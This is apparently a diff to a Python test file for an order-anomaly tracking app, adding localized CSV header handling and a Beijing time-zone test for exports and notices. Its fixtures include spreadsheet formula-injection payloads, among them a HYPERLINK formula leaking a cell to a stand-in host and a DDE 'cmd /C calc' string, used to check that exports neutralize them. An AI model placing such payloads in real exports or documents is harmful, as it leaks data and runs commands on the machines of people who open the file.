@@ -16,7 +16,7 @@ from app.store.engine import Store
 from app.store.models import Anomaly, Order
 from app.tracking import evaluate
 from app.tracking.values import AnomalyRow
-from app.tracking.views import CSV_COLUMNS, write_csv
+from app.tracking.views import CSV_COLUMNS, CSV_HEADERS, write_csv
 from tests.tracking.support import add_unprinted_order, make_world, sandbox_now
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看物流")'
@@ -25,8 +25,14 @@ MINUS = "-2+3"
 PLUS = "+86 138 0000 1111"
 
 
+def _keyed(text: str, lang: str = "zh") -> list[dict[str, str]]:
+    """The rows keyed by column name (the headers are in the UI's language)."""
+    names = {header: key for key, header in CSV_HEADERS[lang].items()}
+    return [{names[h]: v for h, v in row.items()} for row in csv.DictReader(io.StringIO(text))]
+
+
 def _read(path: Path) -> list[dict[str, str]]:
-    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
+    return _keyed(path.read_text(encoding="utf-8-sig"))
 
 
 def test_formula_text_in_an_export_comes_out_as_text(
@@ -51,8 +57,8 @@ def test_formula_text_in_an_export_comes_out_as_text(
     assert row["assignee"] == "'" + PLUS
     assert row["resolved_by"] == "'\t=1+1"
     # the numbers the export writes itself stay numbers; ordinary text stays as it is
-    assert row["id"].isdigit() and float(row["age_hours"]) > 0 and row["severity"].isdigit()
-    assert (row["kind"], row["state"], row["parcel_status"]) == ("ship_late", "open", "")
+    assert row["id"].isdigit() and float(row["age_hours"]) > 0 and row["severity"] == "中"
+    assert (row["kind"], row["state"], row["parcel_status"]) == ("超时未发货", "未处理", "")
     for name in CSV_COLUMNS:
         assert not row[name].startswith(("=", "+", "-", "@", "\t", "\r")), name
 
@@ -75,8 +81,33 @@ def test_a_cell_is_guarded_only_when_it_is_text() -> None:
     )  # fmt: skip
     buffer = io.StringIO()
     assert write_csv([row], buffer) == 1
-    (written,) = list(csv.DictReader(io.StringIO(buffer.getvalue())))
+    (written,) = _keyed(buffer.getvalue())
     assert written["age_hours"] == "-1.5"  # a number the export wrote itself
     assert (written["order"], written["detail"]) == ("'-100", "'-2+3")  # text that looks like a number
     assert written["receiver_name"] == "'=cmd|' /C calc'!A0"
     assert written["receiver_phone_masked"] == "138****1111"
+
+
+def test_one_time_zone_in_the_export_the_notices_and_json() -> None:
+    from app.tracking.notices import AnomalyNotice
+    from app.tracking.times import china_iso
+
+    at = datetime(2024, 5, 1, 2, 0, 0)  # store time (UTC): 10:00 in Beijing
+    row = AnomalyRow(
+        id=1, kind="rejected", kind_zh="拒收", kind_en="refused", severity=3, state="resolved", order_id=1,
+        order="T1", shipment_id=None, waybill_id=None, waybill="", carrier="YTO", parcel_status="rejected",
+        receiver_name="张三", receiver_phone_masked="", since=at, detected_at=at, age_hours=1.0, detail="",
+        assignee="", note="", acknowledged_at=at + timedelta(hours=1), resolved_at=at + timedelta(hours=2),
+        resolved_by="主管",
+    )  # fmt: skip
+    for lang in ("zh", "en"):
+        buffer = io.StringIO()
+        write_csv([row], buffer, lang)
+        (written,) = _keyed(buffer.getvalue(), lang)
+        assert (written["since"], written["acknowledged_at"], written["resolved_at"]) == (
+            "2024-05-01 10:00", "2024-05-01 11:00", "2024-05-01 12:00",
+        )  # fmt: skip
+        assert "（北京时间）" in CSV_HEADERS["zh"]["since"] and "Beijing time" in CSV_HEADERS["en"]["since"]
+    notice = AnomalyNotice(1, "rejected", 3, "YT1", "YTO", "T1", "张三", "", at, "")
+    assert "开始于 2024-05-01 10:00（北京时间）" in notice.text() and "UTC" not in notice.text()
+    assert china_iso(at) == "2024-05-01 10:00:00+08:00"
